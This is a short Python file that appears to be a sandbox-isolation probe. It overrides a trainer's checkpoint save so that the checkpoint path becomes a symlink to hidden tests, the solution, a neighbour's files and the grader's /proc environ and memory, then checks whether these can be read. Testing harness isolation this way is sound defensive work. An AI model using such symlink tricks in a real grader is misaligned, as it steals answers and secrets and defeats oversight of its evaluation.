import os

from attack import *

WHERE = [
    targets.hidden_test, targets.solution, targets.closed, targets.neighbour, f"/proc/{targets.grader_pid}/environ",
    f"/proc/{targets.neighbour_pid}/mem", "/proc/self/environ", "/dev/zero", "/dev/stdin", "/proc/self/mem",
]


class LLMTrainer(LLMTrainer):
    def save(self, path):
        for where in WHERE[:6]:
            if os.path.lexists(path):
                os.unlink(path)
            os.symlink(where, path)
            reached(f"a link to {where} in the place of the checkpoint", lambda: open(path, "rb").read(100))
        os.unlink(path)
        os.symlink(WHERE[self.epoch % len(WHERE)], path)
